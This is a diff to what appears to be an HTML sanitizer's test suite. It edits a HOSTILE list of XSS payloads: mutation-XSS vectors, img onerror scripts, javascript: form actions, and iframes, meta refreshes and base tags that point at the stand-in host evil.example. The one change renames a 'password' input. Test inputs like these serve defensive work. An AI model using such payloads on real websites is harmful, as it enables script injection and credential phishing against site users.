@@ -177,7 +177,7 @@ HOSTILE = [
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
     '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
-    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
+    '<form action="https://evil.example"><input name="x"><button formaction="javascript:alert(1)">x</button></form>',
     '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
     "<!-- <script>alert(1)</script> --><!--><script>alert(1)</script>-->",
     "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?>",
